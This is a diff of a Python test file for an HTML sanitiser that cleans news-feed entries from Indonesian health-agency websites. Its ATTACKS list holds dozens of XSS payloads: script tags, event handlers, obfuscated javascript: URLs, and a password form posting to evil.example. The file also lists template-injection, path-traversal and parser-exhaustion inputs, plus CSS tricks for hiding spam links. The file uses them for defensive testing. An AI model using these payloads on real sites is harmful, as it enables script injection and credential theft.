@@ -33,8 +33,10 @@ def safe(markup: str, base: str = PAGE) -> str:
 
 def cleaned(mode: Mode = "full", **fields: Any) -> Article:
     return article(
-        Entry(**{"guid": "1", "url": PAGE, "title": "Judul", **fields}), agency="dinkes", feed=f"{PAGE}feed", key="guid:1",
-        canonical=PAGE, mode=mode, parse_date=lambda text: NOW if text else None, injected=lambda line: "IKLAN-JUDI" in line,
+        Entry(**{"guid": "1", "url": PAGE, "title": "Judul", **fields}), agency="dinkes", feed=f"{PAGE}feed",
+        key="guid:1",
+        canonical=PAGE, mode=mode, parse_date=lambda text: NOW if text else None,
+        injected=lambda line: "IKLAN-JUDI" in line,
     )  # fmt: skip
 
 
@@ -94,7 +96,7 @@ def words(markup: str) -> str:
         ("<b><div>Satu</div></b>", "<p><b>Satu</b></p>"),
         ("<b><section>Satu</section><section>Dua</section></b>", "<p><b>Satu</b></p><p><b>Dua</b></p>"),
         ("Satu<b><br>Dua</b>", "<p>Satu<b><br>Dua</b></p>"),
-        ("<h2><div>Satu</div><div>Dua</div></h2>", "<h2>Satu<br><br>Dua</h2>"),
+        ("<h2><div>Satu</div><div>Dua</div></h2>", "<h2>Satu<br>Dua</h2>"),
         ("<h2><div>Judul</div></h2>", "<h2>Judul</h2>"),
         ("<p>Satu<section>Dua</section></p>", "<p>Satu</p><p>Dua</p>"),
         ("<p><br>Satu<br></p>", "<p>Satu</p>"),
@@ -150,7 +152,8 @@ def test_the_text_is_a_line_a_block(markup: str, text: str) -> None:
     [
         ("https://a.go.id/x", "https://a.go.id/x"), ("/unduh/a.pdf", "https://dinkes.contohkab.go.id/unduh/a.pdf"),
         ("b.html", "https://dinkes.contohkab.go.id/berita/1/b.html"), ("//b.go.id/", "https://b.go.id/"),
-        ("https://a.go.id/?a=1&amp;b=2", "https://a.go.id/?a=1&b=2"), ("mailto:humas@a.go.id", ""), ("tel:112", ""), ("", ""),
+        ("https://a.go.id/?a=1&amp;b=2", "https://a.go.id/?a=1&b=2"), ("mailto:humas@a.go.id", ""), ("tel:112", ""),
+         ("", ""),
         ("{attach}../.env", "https://dinkes.contohkab.go.id/berita/1/{attach}../.env"),
     ],
 )  # fmt: skip
@@ -220,35 +223,61 @@ def test_a_frame_becomes_a_link(markup: str, wanted: str) -> None:
 # --- attacks --------------------------------------------------------------------------------------------------------
 
 ATTACKS = [
-    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script>alert(1)", "<<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>", "<p onclick=alert(1)>a</p>", "<b onmouseover='alert(1)'>a</b>", "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>", "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><a xlink:href=javascript:alert(1)><text>a",
-    "<math><mi xlink:href=javascript:alert(1)>a</mi></math>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<a href=javascript:alert(1)>a</a>", "<a href=' javascript:alert(1)'>a</a>", "<a href='java&#x09;script:alert(1)'>a</a>",
-    "<a href='java&NewLine;script:alert(1)'>a</a>", "<a href=&#106;avascript:alert(1)>a</a>", "<a href='&#1;javascript:alert(1)'>a</a>",
-    "<a href=JAVASCRIPT:alert(1)>a</a>", "<a href='jav\u200bascript:alert(1)'>a</a>", "<a href='javascript&colon;alert(1)'>a</a>",
-    "<a href=vbscript:x>a</a>", "<a href='data:text/html,<script>alert(1)</script>'>a</a>", "<a href='https://a.go.id/\"onclick=alert(1)//'>a</a>",
-    "<a href='https://a.go.id/' style='position:fixed;top:0'>a</a>", "<a href='\\\\evil.example\\x'>a</a>", "<a href='///evil.example'>a</a>",
-    "<form action=//evil.example><input name=sandi><button>Masuk</button></form>", "<input autofocus onfocus=alert(1)>", "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/a.css>", "<style>*{x:expression(alert(1))}</style>",
-    "<p style='background:url(javascript:alert(1))'>a</p>", "<div style='x:expression(alert(1))'>a</div>", "<table background=javascript:alert(1)><td>a",
-    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<iframe src=javascript:alert(1)>",
-    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>", "<frameset onload=alert(1)>", "<body onload=alert(1)>a", "<html onload=alert(1)>a",
-    "<details open ontoggle=alert(1)>a</details>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>a</marquee>",
-    "<textarea><img src=x onerror=alert(1)></textarea>", "<title><img src=x onerror=alert(1)></title>", "<xmp><img src=x onerror=alert(1)></xmp>",
-    "<plaintext><img src=x onerror=alert(1)>", "<noembed><img src=x onerror=alert(1)></noembed>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
-    "<template><script>alert(1)</script></template>", "<select><option><script>alert(1)</script></select>", "<!--><script>alert(1)</script>-->",
-    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml:namespace prefix=t><t:x onclick=a>",
-    "<isindex prompt=x onclick=alert(1)>", "<x onclick=alert(1)>a</x>", "<p id=x name=y data-z=1 class=w lang=id dir=rtl>a</p>", "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt>", "\ufeff<\u200bscript>alert(1)</script>", "<a href=https://a.go.id/ ping=//e.example rel=opener target=_blank>a</a>",
-    "<area href=javascript:alert(1)>", "<button formaction=javascript:alert(1)>a", "<td colspan=99999999999 rowspan='javascript:1' onclick=x>a</td>",
-    "<dialog open onclose=alert(1)>a</dialog>", "<portal src=//e.example></portal>", "<img srcset='//e.example/a 1x' src=''>", "<picture><source srcset=//e.example>",
+    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script>alert(1)",
+    "<<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>", "<p onclick=alert(1)>a</p>", "<b onmouseover='alert(1)'>a</b>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>", "<svg><set attributeName=href to=javascript:alert(1)>",
+    "<svg><a xlink:href=javascript:alert(1)><text>a",
+    "<math><mi xlink:href=javascript:alert(1)>a</mi></math>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<a href=javascript:alert(1)>a</a>", "<a href=' javascript:alert(1)'>a</a>",
+    "<a href='java&#x09;script:alert(1)'>a</a>",
+    "<a href='java&NewLine;script:alert(1)'>a</a>", "<a href=&#106;avascript:alert(1)>a</a>",
+    "<a href='&#1;javascript:alert(1)'>a</a>",
+    "<a href=JAVASCRIPT:alert(1)>a</a>", "<a href='jav\u200bascript:alert(1)'>a</a>",
+    "<a href='javascript&colon;alert(1)'>a</a>",
+    "<a href=vbscript:x>a</a>", "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
+    "<a href='https://a.go.id/\"onclick=alert(1)//'>a</a>",
+    "<a href='https://a.go.id/' style='position:fixed;top:0'>a</a>", "<a href='\\\\evil.example\\x'>a</a>",
+    "<a href='///evil.example'>a</a>",
+    "<form action=//evil.example><input name=sandi><button>Masuk</button></form>",
+    "<input autofocus onfocus=alert(1)>", "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/a.css>",
+    "<style>*{x:expression(alert(1))}</style>",
+    "<p style='background:url(javascript:alert(1))'>a</p>", "<div style='x:expression(alert(1))'>a</div>",
+    "<table background=javascript:alert(1)><td>a",
+    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<applet code=x>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>", "<frameset onload=alert(1)>", "<body onload=alert(1)>a",
+    "<html onload=alert(1)>a",
+    "<details open ontoggle=alert(1)>a</details>", "<video><source onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>a</marquee>",
+    "<textarea><img src=x onerror=alert(1)></textarea>", "<title><img src=x onerror=alert(1)></title>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<plaintext><img src=x onerror=alert(1)>", "<noembed><img src=x onerror=alert(1)></noembed>",
+    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
+    "<template><script>alert(1)</script></template>", "<select><option><script>alert(1)</script></select>",
+    "<!--><script>alert(1)</script>-->",
+    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml:namespace prefix=t><t:x onclick=a>",
+    "<isindex prompt=x onclick=alert(1)>", "<x onclick=alert(1)>a</x>",
+    "<p id=x name=y data-z=1 class=w lang=id dir=rtl>a</p>", "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt>", "\ufeff<\u200bscript>alert(1)</script>",
+    "<a href=https://a.go.id/ ping=//e.example rel=opener target=_blank>a</a>",
+    "<area href=javascript:alert(1)>", "<button formaction=javascript:alert(1)>a",
+    "<td colspan=99999999999 rowspan='javascript:1' onclick=x>a</td>",
+    "<dialog open onclose=alert(1)>a</dialog>", "<portal src=//e.example></portal>",
+    "<img srcset='//e.example/a 1x' src=''>", "<picture><source srcset=//e.example>",
 ]  # fmt: skip
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
-@pytest.mark.parametrize("around", ["{}", "<p>Isi {} isi</p>", "<table><tr><td>{}</td></tr></table>", "<b><i>{}</i></b>"])
+@pytest.mark.parametrize(
+    "around", ["{}", "<p>Isi {} isi</p>", "<table><tr><td>{}</td></tr></table>", "<b><i>{}</i></b>"]
+)
 def test_nothing_but_the_allow_list_comes_out(attack: str, around: str) -> None:
     """In whatever surroundings, as a browser would read it; and what is clean stays as it is."""
     once = safe(around.replace("{}", attack))
@@ -258,10 +287,13 @@ def test_nothing_but_the_allow_list_comes_out(attack: str, around: str) -> None:
 
 
 @pytest.mark.parametrize("field", ["title", "summary", "content", "author", "guid", "url", "published"])
-@pytest.mark.parametrize("attack", [*ATTACKS[:16], "\ud800\udfff", "\x00\x1b\u202e", "{{ config }}", "{attach}../.env", "a" * 5000])
+@pytest.mark.parametrize(
+    "attack", [*ATTACKS[:16], "\ud800\udfff", "\x00\x1b\u202e", "{{ config }}", "{attach}../.env", "a" * 5000]
+)
 def test_every_field_is_hostile(field: str, attack: str) -> None:
     """None of them raises; what is plain text is one line of it, what is HTML is the allow-list's."""
-    found = cleaned(**{field: attack, "tags": (attack,), "origin": attack, "base": attack})
+    fields: dict[str, Any] = {field: attack, "tags": (attack,), "origin": attack, "base": attack}
+    found = cleaned(**fields)
     check_closed(found.html)
     assert len(found.title) <= TITLE
     for line in (found.title, found.summary, found.author, *found.tags):
@@ -296,16 +328,24 @@ def test_any_markup_is_closed_and_comes_to_rest(markup: str) -> None:
 # --- what is hidden ----------------------------------------------------------------------------------------------------
 
 HIDING = [
-    "display:none", "display : none", "DISPLAY:NONE", "display:none!important", "color:red;display:none", "display:/**/none", "visibility:hidden",
-    "position:absolute;left:-9999px", "position:absolute;top:-9999px", "position:fixed;right:-5000px", "text-indent:-9999px", "text-indent:-999em",
-    "margin-left:-9999px", "font-size:0", "font-size:0px", "font-size: 0;", "font-size:1px", "font-size:0.1px", "opacity:0", "opacity:0.0", "opacity: .01",
-    "width:1px;height:1px;overflow:hidden", "overflow:hidden;height:0", "overflow:hidden; width:0px", "max-height:0;overflow:hidden", "clip:rect(0,0,0,0)",
-    "clip:rect(1px,1px,1px,1px)", "clip-path:inset(100%)", "transform:translateX(-9999px)", "transform:scale(0)", "color:transparent", "overflow:auto;width:1px;",
+    "display:none", "display : none", "DISPLAY:NONE", "display:none!important", "color:red;display:none",
+    "display:/**/none", "visibility:hidden",
+    "position:absolute;left:-9999px", "position:absolute;top:-9999px", "position:fixed;right:-5000px",
+    "text-indent:-9999px", "text-indent:-999em",
+    "margin-left:-9999px", "font-size:0", "font-size:0px", "font-size: 0;", "font-size:1px", "font-size:0.1px",
+    "opacity:0", "opacity:0.0", "opacity: .01",
+    "width:1px;height:1px;overflow:hidden", "overflow:hidden;height:0", "overflow:hidden; width:0px",
+    "max-height:0;overflow:hidden", "clip:rect(0,0,0,0)",
+    "clip:rect(1px,1px,1px,1px)", "clip-path:inset(100%)", "transform:translateX(-9999px)", "transform:scale(0)",
+    "color:transparent", "overflow:auto;width:1px;",
 ]  # fmt: skip
 SEEN = [
-    "display:block", "font-size:14px", "font-size:0.9em", "font-size:.85rem", "font-size:1em", "font-size:1rem", "font-size:10px", "font-size:100%", "opacity:0.9",
-    "opacity:1", "left:-5px", "margin-left:-15px", "text-indent:-18pt", "line-height:1", "width:100%;overflow:hidden", "height:10px;overflow:hidden",
-    "border-width:0;overflow:hidden", "color:#fff;background:#060", "visibility:visible", "max-width:100%;height:auto", "margin:0;padding:0", "overflow-x:auto;width:100%",
+    "display:block", "font-size:14px", "font-size:0.9em", "font-size:.85rem", "font-size:1em", "font-size:1rem",
+    "font-size:10px", "font-size:100%", "opacity:0.9",
+    "opacity:1", "left:-5px", "margin-left:-15px", "text-indent:-18pt", "line-height:1", "width:100%;overflow:hidden",
+    "height:10px;overflow:hidden",
+    "border-width:0;overflow:hidden", "color:#fff;background:#060", "visibility:visible", "max-width:100%;height:auto",
+    "margin:0;padding:0", "overflow-x:auto;width:100%",
     "letter-spacing:-1px", "background-color:transparent", "font-size:12pt;line-height:1.5", "top:0", "",
 ]  # fmt: skip
 
@@ -315,7 +355,11 @@ SEEN = [
 def test_what_style_hides_goes(style: str, tag: str) -> None:
     """With its words; its links are kept as evidence and flagged. A sanitiser that only took the style would show it."""
     link = '<a href="https://slot.example/">situs</a>'
-    hidden = f'<a style="{style}" href="https://slot.example/">situs</a>' if tag == "a" else f'<{tag} style="{style}">{link}</{tag}>'
+    hidden = (
+        f'<a style="{style}" href="https://slot.example/">situs</a>'
+        if tag == "a"
+        else f'<{tag} style="{style}">{link}</{tag}>'
+    )
     found = body(f"<p>Rapat dimulai.</p>{hidden}<p>Rapat selesai.</p>")
     assert found.text == "Rapat dimulai.\nRapat selesai."
     assert found.hidden == ["https://slot.example/"]
@@ -333,8 +377,10 @@ def test_what_style_shows_stays(style: str) -> None:
 
 @pytest.mark.parametrize(
     "markup",
-    ["<div hidden>{}</div>", "<div hidden=until-found>{}</div>", "<style>.q{{display:none}}</style><div class='a q'>{}</div>",
-     "<style>#z , .y {{ text-indent:-9999px }}</style><p id=z>{}</p>", "<marquee width=1 height=1>{}</marquee>", "<div style='display:none'><ul><li>{}</li></ul></div>"],
+    ["<div hidden>{}</div>", "<div hidden=until-found>{}</div>",
+     "<style>.q{{display:none}}</style><div class='a q'>{}</div>",
+     "<style>#z , .y {{ text-indent:-9999px }}</style><p id=z>{}</p>", "<marquee width=1 height=1>{}</marquee>",
+     "<div style='display:none'><ul><li>{}</li></ul></div>"],
 )  # fmt: skip
 def test_other_ways_of_hiding(markup: str) -> None:
     """By attribute, by a style sheet within the text, as a running line of no size."""
@@ -344,7 +390,9 @@ def test_other_ways_of_hiding(markup: str) -> None:
 
 def test_two_hidden_links_are_two() -> None:
     """They are counted one by one, for one is forgiven and two are held."""
-    found = body('<p>Isi</p><p style="display:none"><a href="https://a.example/">a</a> <a href="https://b.example/">b</a></p>')
+    found = body(
+        '<p>Isi</p><p style="display:none"><a href="https://a.example/">a</a> <a href="https://b.example/">b</a></p>'
+    )
     assert found.hidden == ["https://a.example/", "https://b.example/"]
 
 
@@ -360,9 +408,12 @@ def test_hidden_share_buttons_are_no_evidence() -> None:
 
 @pytest.mark.parametrize(
     "line",
-    ["Bagikan: Facebook Twitter WhatsApp", "BAGIKAN", "Share this:", "Bagikan ini: Facebook | X | Telegram", "Komentar Anda", "comments", "Tinggalkan Balasan",
-     "LEAVE A REPLY", "Baca juga: Posyandu Melati Dibuka", "BACA JUGA", "Lihat juga: Galeri", "ADVERTISEMENT", "SCROLL TO CONTINUE WITH CONTENT", "Dilihat 151 kali",
-     "Dibaca: 1.234 kali", "25 Views", "0 shares", "Cek Berita dan Artikel yang lain di Google News", "Selengkapnya »", "Read more", "Loading...",
+    ["Bagikan: Facebook Twitter WhatsApp", "BAGIKAN", "Share this:", "Bagikan ini: Facebook | X | Telegram",
+     "Komentar Anda", "comments", "Tinggalkan Balasan",
+     "LEAVE A REPLY", "Baca juga: Posyandu Melati Dibuka", "BACA JUGA", "Lihat juga: Galeri", "ADVERTISEMENT",
+     "SCROLL TO CONTINUE WITH CONTENT", "Dilihat 151 kali",
+     "Dibaca: 1.234 kali", "25 Views", "0 shares", "Cek Berita dan Artikel yang lain di Google News", "Selengkapnya »",
+     "Read more", "Loading...",
      "The post Rapat Koordinasi appeared first on Dinas Kesehatan.", "The post Rapat first appeared on Dinkes."],
 )  # fmt: skip
 @pytest.mark.parametrize("tag", ["p", "div", "h4"])
@@ -373,7 +424,8 @@ def test_furniture_lines_go(line: str, tag: str) -> None:
 
 @pytest.mark.parametrize(
     "line",
-    ["Warga membagikan bantuan.", "Komentar Anda kami tunggu di balai desa.", "Pameran itu dilihat 151 siswa.", "151", "Iklan layanan masyarakat diputar.",
+    ["Warga membagikan bantuan.", "Komentar Anda kami tunggu di balai desa.", "Pameran itu dilihat 151 siswa.", "151",
+     "Iklan layanan masyarakat diputar.",
      "Buku itu dibaca 40 kali oleh juri sebelum dinilai.", "Selengkapnya dapat diunduh di laman resmi."],
 )  # fmt: skip
 def test_sentences_stay(line: str) -> None:
@@ -384,7 +436,16 @@ def test_sentences_stay(line: str) -> None:
 def test_what_plug_ins_hang_on_goes_by_its_class() -> None:
     """Short blocks only: a theme may call the whole article `social`."""
     row = '<div class="{}"><a href="https://a.example/">Facebook</a></div>'
-    for name in ("sharedaddy", "addtoany_content", "heateor_sss_sharing", "jp-relatedposts", "post-views", "share-buttons", "social-links", "x yarpp y"):
+    for name in (
+        "sharedaddy",
+        "addtoany_content",
+        "heateor_sss_sharing",
+        "jp-relatedposts",
+        "post-views",
+        "share-buttons",
+        "social-links",
+        "x yarpp y",
+    ):
         assert body(f"<p>Isi</p>{row.format(name)}").text == "Isi"
     for name in ("content", "share", "social", "shareholder-buttons", "postviewsolid"):
         assert body(f"<p>Isi</p>{row.format(name)}").text == "Isi\nFacebook"
@@ -430,7 +491,8 @@ def test_a_text_of_two_lines_is_not_halved() -> None:
     ("markup", "flag"),
     [
         ("<p>kata</p>" * (MARKUP // 8), "terlalu-panjang"), ("<div>" * (DEPTH + 1) + "kata", "terlalu-dalam"),
-        ("<b></i>" * 3000 + "kata", "terlalu-dalam"), ("<span>" * 80_000 + "kata", "terlalu-dalam"), ("<b>a</b>" * 40_000, "terlalu-dalam"),
+        ("<b></i>" * 3000 + "kata", "terlalu-dalam"), ("<span>" * 80_000 + "kata", "terlalu-dalam"),
+         ("<b>a</b>" * 40_000, "terlalu-dalam"),
     ],
 )  # fmt: skip
 def test_what_is_too_much_is_flagged(markup: str, flag: str) -> None:
@@ -443,14 +505,20 @@ def test_what_is_too_much_is_flagged(markup: str, flag: str) -> None:
 
 def test_an_honest_long_article_is_not_too_much() -> None:
     """Unclosed paragraphs, a table of a thousand rows, forty levels of wrappers."""
-    for markup in ("<p>Isi panjang." * 1500, "<table>" + "<tr><td>a<td>b" * 1000 + "</table>", "<div>" * 40 + "Isi" + "</div>" * 40):
+    for markup in (
+        "<p>Isi panjang." * 1500,
+        "<table>" + "<tr><td>a<td>b" * 1000 + "</table>",
+        "<div>" * 40 + "Isi" + "</div>" * 40,
+    ):
         assert body(markup).flags == []
 
 
 @pytest.mark.parametrize(
     "markup",
-    ["<" * 300_000, "<a " * 100_000, "<a" * 200_000, "<" + "a" * 400_000, "<a href='" + "x" * 400_000, "<!--" * 100_000, "&" * 400_000, "<p " + "x=1 " * 100_000,
-     "<br>a" * 9_000, "<img src=a.jpg>" * 9_000, "<p style='" + "display:" * 50_000, "<b>" * 100 + "<a>" * 9_000, "<style>" + "a{" * 100_000, "<table>" * 100_000,
+    ["<" * 300_000, "<a " * 100_000, "<a" * 200_000, "<" + "a" * 400_000, "<a href='" + "x" * 400_000,
+     "<!--" * 100_000, "&" * 400_000, "<p " + "x=1 " * 100_000,
+     "<br>a" * 9_000, "<img src=a.jpg>" * 9_000, "<p style='" + "display:" * 50_000, "<b>" * 100 + "<a>" * 9_000,
+     "<style>" + "a{" * 100_000, "<table>" * 100_000,
      "<p>\n" * 9_000, "<i><p>a" * 4_000],
     ids=lambda markup: markup[:9],
 )  # fmt: skip
@@ -463,13 +531,18 @@ def test_shapes_that_take_others_long_are_over_soon(markup: str) -> None:
 
 # --- the article ----------------------------------------------------------------------------------------------------------------
 
-LONG = "<p>SUMBERJATI – Rapat dibuka Kepala Dinas Kesehatan. " + "Kegiatan itu diikuti kader dari dua belas desa. " * 9 + "</p>"
+LONG = (
+    "<p>SUMBERJATI – Rapat dibuka Kepala Dinas Kesehatan. "
+    + "Kegiatan itu diikuti kader dari dua belas desa. " * 9
+    + "</p>"
+)
 
 
 def test_an_article_says_what_its_entry_said() -> None:
     """Every field where it belongs, the date as its reader read it."""
     found = cleaned(
-        title="Air &amp; Kita", content=LONG, summary="pendek", published="hari ini", author="<b>Humas</b>", tags=("Gizi", "", "Gizi", "A &amp; B"),
+        title="Air &amp; Kita", content=LONG, summary="pendek", published="hari ini", author="<b>Humas</b>",
+        tags=("Gizi", "", "Gizi", "A &amp; B"),
         origin="/sumber", fields={"Place": "<i>Aula</i>"},
     )  # fmt: skip
     assert (found.title, found.author, found.tags) == ("Air & Kita", "Humas", ("Gizi", "A & B"))
@@ -506,7 +579,13 @@ def test_an_article_without_a_title_is_called_by_its_first_words() -> None:
 def test_the_raw_hash_is_of_what_was_sent() -> None:
     """The same while the source sends the same, whoever reads it; another when one letter is another."""
     assert cleaned(content=LONG).raw == cleaned("excerpt", content=LONG).raw
-    for other in ({"content": f"{LONG} "}, {"title": "Lain"}, {"published": "kemarin"}, {"pictures": (PictureRef("/a.jpg"),)}, {"fields": {"State": "batal"}}):
+    for other in (
+        {"content": f"{LONG} "},
+        {"title": "Lain"},
+        {"published": "kemarin"},
+        {"pictures": (PictureRef("/a.jpg"),)},
+        {"fields": {"State": "batal"}},
+    ):
         assert cleaned(**{"content": LONG, **other}).raw != cleaned(content=LONG).raw
 
 
@@ -527,12 +606,29 @@ def test_relative_links_are_relative_to_where_the_text_says() -> None:
 
 
 @settings(max_examples=100, deadline=None)
-@given(st.text(st.characters(codec=None)), MARKUPS, st.text(st.characters(codec=None)), st.sampled_from(["full", "excerpt", "link"]))
+@given(
+    st.text(st.characters(codec=None)),
+    MARKUPS,
+    st.text(st.characters(codec=None)),
+    st.sampled_from(["full", "excerpt", "link"]),
+)
 def test_any_entry_becomes_an_article(title: str, content: str, address: str, mode: Mode) -> None:
     """Whatever it holds, it can be stored and printed."""
-    found = cleaned(mode, title=title, content=content, url=address, guid=address, author=title, tags=(title, content), base=address)
+    found = cleaned(
+        mode, title=title, content=content, url=address, guid=address, author=title, tags=(title, content), base=address
+    )
     check_closed(found.html)
     assert found.title
     repr(found).encode()
-    for text in (found.title, found.text, found.summary, found.author, found.url, found.guid, *found.tags, *found.links, *found.hidden):
+    for text in (
+        found.title,
+        found.text,
+        found.summary,
+        found.author,
+        found.url,
+        found.guid,
+        *found.tags,
+        *found.links,
+        *found.hidden,
+    ):
         text.encode()
